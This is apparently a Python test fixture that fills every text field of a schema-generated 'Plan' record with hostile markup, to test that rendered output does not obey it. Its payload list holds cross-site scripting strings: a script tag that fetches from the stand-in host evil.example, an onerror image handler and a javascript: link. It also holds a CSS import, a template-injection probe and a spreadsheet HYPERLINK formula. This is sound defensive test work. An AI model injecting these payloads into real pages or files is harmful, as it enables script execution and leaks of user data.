"""Hostile text in every field of a record, made from the record's schema, so that a new field has it too."""

from __future__ import annotations

import json
from typing import Any

from pydantic import ValidationError

from ucap.plan.record import Plan

Json = dict[str, Any]

HOST = "evil.example"
SOURCE = f"http://{HOST}/src"
"""The one address that may become a link: it stands among the sources."""

MARKS = [f"MARK{letter}" for letter in "ABCDEFGHIJKLMN"]
"""Words that stand inside markup. Where one is all that an element of a page says, the markup was obeyed."""

_CONSTRUCTS = (
    "<b>MARKA</b>",
    "**MARKB**",
    "`MARKC`",
    ":red[MARKD]",
    "$MARKE$",
    "[MARKF](javascript:window.obeyed=1)",
    "~~MARKG~~",
    ":blue-badge[MARKH]",
    f'<a href="http://{HOST}/a">MARKI</a>',
    "_MARKJ_",
    "$$\\text{MARKK}$$",
    "^MARKL^",
    "==MARKM==",
    f"[MARKN]: http://{HOST}/n",
    f"![x](http://{HOST}/i.png)",
    f"<img src=http://{HOST}/j.png onerror=window.obeyed=2>",
    f'<script>window.obeyed=3;fetch("http://{HOST}/s")</script>',
    f"<style>@import url(http://{HOST}/c.css)</style>",
    ":skull:",
    ":material/skull:",
    ":streamlit:",
    f"http://{HOST}/bare",
    f"www.{HOST}",
    f"a@{HOST}",
    f"<https://{HOST}/auto>",
    "to -> fro -- end",
    "&lt;i&gt;",
    "{{7*7}}",
    "<br>",
)
TEXT = " ".join(_CONSTRUCTS)
SHORT_TEXT = f'<b>MARKA</b><a href="http://{HOST}/a">MARKI</a>'
"""What fits beside a mark on a chart."""
FORMULA = f'=HYPERLINK("http://{HOST}/x";"x")'


def hostile_record(plan_id: str | None = None, text: str = TEXT) -> Json:
    """A record whose every text is hostile; where the record takes no such text, it has one that it takes."""
    schema = Plan.model_json_schema()
    made: Json = _value(schema, schema["$defs"], f"{text} ")
    made |= {"id": plan_id, "passages": {}, "document": None}
    made["sources"].append(SOURCE)
    while True:
        try:
            Plan.model_validate_json(json.dumps(made))
        except ValidationError as error:
            for fault in error.errors():
                _put(made, fault["loc"], "2018-05-02")
        else:
            return made


def _value(schema: Json, definitions: Json, pointer: str, choice: int = 0) -> Any:
    """A value for a schema; a text is the `pointer` to it, `choice` says which of the permitted values it is."""
    if "$ref" in schema:
        return _value(definitions[schema["$ref"].rpartition("/")[2]], definitions, pointer, choice)
    if "anyOf" in schema:
        return _value(next(one for one in schema["anyOf"] if one != {"type": "null"}), definitions, pointer, choice)
    if schema.get("type") == "object":
        fields = schema.get("properties", {})
        return {name: _value(one, definitions, f"{pointer}/{name}", choice) for name, one in fields.items()}
    if schema.get("type") == "array":
        return [_value(schema["items"], definitions, f"{pointer}/{number}", number) for number in range(2)]
    return _single_value(schema, pointer, choice)


def _single_value(schema: Json, pointer: str, choice: int) -> Any:
    if "enum" in schema:
        return schema["enum"][choice % len(schema["enum"])]
    text = f"{FORMULA if choice else ''}{pointer}"
    return {"boolean": choice == 0, "integer": 10 + choice, "number": 10 + choice, "string": text}[schema["type"]]


def _put(record: Json, place: tuple[int | str, ...], value: str) -> None:
    *path, last = (step for step in place if isinstance(step, int) or not step.startswith("function-"))
    inner: Any = record
    for step in path:
        inner = inner[step]
    inner[last] = value
